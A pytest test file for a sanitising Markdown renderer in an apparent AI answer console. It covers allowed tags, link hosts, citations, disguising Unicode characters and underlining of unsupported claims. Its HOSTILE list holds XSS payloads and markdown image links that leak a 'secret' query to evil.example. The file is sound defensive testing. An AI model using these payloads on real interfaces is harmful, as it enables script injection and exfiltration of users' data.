from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from serving.console.safe_markdown import Underline, render, shown_host, visible

ALLOWED = {
    "p", "a", "span", "em", "strong", "s", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "br", "button",
    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ATTRIBUTES = {"href", "rel", "target", "class", "type", "data-cite", "aria-label", "tabindex", "start", "style"}


class Audit(HTMLParser):
    """Fails on any tag or attribute that an answer may not have."""

    def __init__(self) -> None:
        super().__init__()
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED, tag
        for name, value in attrs:
            assert name in ATTRIBUTES, name
            if name == "style":
                assert value in ("text-align:left", "text-align:right", "text-align:center")
            if name == "href":
                assert value is not None
                assert re.match(r"https?://", value), value
                self.links.append(value)

    def handle_comment(self, data: str) -> None:
        raise AssertionError("a comment")


def audit(html: str) -> list[str]:
    auditor = Audit()
    auditor.feed(html)
    auditor.close()
    return auditor.links


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=https://evil.example/?q=secret onerror=alert(1)>",
    "![leak](https://evil.example/leak.png?q=secret)",
    "![leak][1]\n\n[1]: https://evil.example/x.png",
    "<svg onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](/v1/feedback)",
    "[x](https://google.com@evil.example/)",
    "[x](https://evil.example\\@google.com/)",
    "[x](https://evil.example/\"onmouseover=alert(1))",
    "[x](https://ok.example 'title\" onclick=alert(1)')",
    "<javascript:alert(1)>",
    "<https://ok.example/\"><script>alert(1)</script>>",
    "```html\" onload=\"alert(1)\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| a | <img src=x> |\n|---|---|\n| [x](javascript:1) | ![y](http://e/x) |",
    "# <script>x</script>\n> <img src=x>\n- <b onclick=x>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62;",
    "<!-- --><![CDATA[x]]><?php x ?>",
    "[" * 500 + "]" * 500 + "(" * 500,
    "*" * 3000 + "_" * 3000 + ">" * 500,
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_only_text(text: str) -> None:
    html = render(text, {1: "Page"})
    audit(html)
    assert "<img" not in html
    assert "<script" not in html


@given(st.text() | st.lists(st.sampled_from([*HOSTILE, "[1]", "**", "`", "\n\n", "> ", "](", "<", "&#x"])).map("".join))
def test_no_text_makes_a_tag_that_is_not_allowed(text: str) -> None:
    audit(render(text, {1: 'A "title" <b>'}))


def test_a_link_opens_apart_and_shows_its_host() -> None:
    html = render("[your bank](https://evil.example:8443/login)")
    assert audit(html) == ["https://evil.example:8443/login"]
    assert 'rel="noopener noreferrer nofollow" target="_blank"' in html
    assert "(evil.example:8443)" in html


def test_a_host_of_look_alike_letters_is_shown_as_what_it_is() -> None:
    assert shown_host("https://аpple.com/") == "xn--pple-43d.com"


@pytest.mark.parametrize(
    "url", ["javascript:x", "data:x", "https://", "https://[", "https://a@b", "x", "https:a.example"]
)
def test_what_is_no_web_address_has_no_host(url: str) -> None:
    assert shown_host(url) is None


def test_an_image_is_its_words() -> None:
    assert render("See ![a chart](https://evil.example/c.png).") == (
        '<p>See <span class="lg-image">[image: a chart]</span>.</p>\n'
    )


def test_markers_of_known_citations_become_buttons() -> None:
    html = render("One [1], two [2][1], three [3], both [1, 2].", {1: 'Keys "&" <b>', 2: "Locks"})
    assert html.count('data-cite="1"') == 3
    assert html.count('data-cite="2"') == 2
    assert "[3]" in html
    assert 'aria-label="Source 1: Keys &quot;&amp;&quot; &lt;b&gt;"' in html
    audit(html)


@pytest.mark.parametrize("text", ["Arrays start at \\[1].", "Arrays start at &#91;1]."])
def test_an_escaped_marker_is_text(text: str) -> None:
    assert render(text, {1: "Keys"}) == "<p>Arrays start at [1].</p>\n"


def test_markers_in_code_stay_as_they_are() -> None:
    assert "data-cite" not in render("`x[1]`\n\n```\nx[1]\n```", {1: "Keys"})


def test_a_reference_definition_does_not_turn_markers_into_links() -> None:
    assert audit(render("Yes [1].\n\n[1]: https://evil.example", {1: "Keys"})) == []


def test_markdown_that_answers_use_is_rendered() -> None:
    html = render("**Bold** and `code`:\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```sh\nls\n```")
    for piece in ("<strong>Bold</strong>", "<code>code</code>", "<ol>", "<table>", "<pre", "ls\n</code>"):
        assert piece in html


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("safe\u202eexe.txt", "safeexe.txt"),
        ("pass\u200bword", "password"),
        ("a\u2066b\u2069c", "abc"),
        ("\ufeffx\u00ad", "x"),
        ("x\U000e0041", "x"),
        ("a\u200db", "ab"),
        ("نمی\u200cخواهم", "نمی\u200cخواهم"),
        ("👩\u200d💻", "👩\u200d💻"),
        ("tab\tand\nline", "tab\tand\nline"),
        ("nul\x00", "nul"),
    ],
)
def test_characters_that_disguise_are_dropped(text: str, seen: str) -> None:
    assert visible(text) == seen


def test_an_entity_does_not_bring_a_disguise_back() -> None:
    assert "\u202e" not in render("safe&#x202e;exe &#8203;")


def test_a_very_long_answer_is_cut_not_parsed_for_ever() -> None:
    assert len(render("word " * 200_000)) < 300_000


def underlined(text: str, *parts: str) -> str:
    return render(text, {1: "Keys"}, [Underline(text.index(each), text.index(each) + len(each), "?") for each in parts])


@pytest.mark.parametrize(
    ("text", "part", "shown"),
    [
        (
            "Keys rotate. They expire [1].",
            "They expire [1].",
            'Keys rotate. <span class="lg-unsupported" title="?">They',
        ),
        ("- One thing.\n- Two.", "- One thing.", '<li><span class="lg-unsupported" title="?">One thing.</span></li>'),
        ("**Bold is** plain.", "**Bold is** plain.", '<strong><span class="lg-unsupported" title="?">Bold is</span>'),
        ("_It is_ so.", "_It is_ so.", '<em><span class="lg-unsupported" title="?">It is</span></em>'),
        ("Run `rm x` now.", "Run `rm x` now.", "<code>rm x</code>"),
        ("```\nA fence. Two.\n```", "A fence.", "<code>A fence. Two.\n</code>"),
        ("One ⸨two⸩ three.", "three.", "One (two) "),
        ("<b onclick=x>Hi</b> you.", "<b onclick=x>Hi</b> you.", "&lt;b onclick=x&gt;Hi&lt;/b&gt; you."),
    ],
)
def test_what_lacks_support_is_underlined_within_its_markup(text: str, part: str, shown: str) -> None:
    html = underlined(text, part)
    assert shown in html
    assert "⸨" not in html
    assert "⸩" not in html


def test_code_between_does_not_mix_up_what_is_said_of_two_sentences() -> None:
    text = "First one.\n\n```\nsecond\n```\n\nThird one."
    places = [(text.index(each), text.index(each) + len(each)) for each in ("First one.", "second", "Third one.")]
    html = render(text, {}, [Underline(*place, f'said of "{number}') for number, place in enumerate(places)])
    assert 'title="said of &quot;0">First one.</span>' in html
    assert 'title="said of &quot;2">Third one.</span>' in html


@pytest.mark.parametrize("place", [(-3, 2), (5, 5), (9, 4), (0, 10**9)])
def test_a_place_outside_of_the_text_underlines_nothing(place: tuple[int, int]) -> None:
    assert render("Keys rotate.", {}, [Underline(*place, "?")]) == render("Keys rotate.")
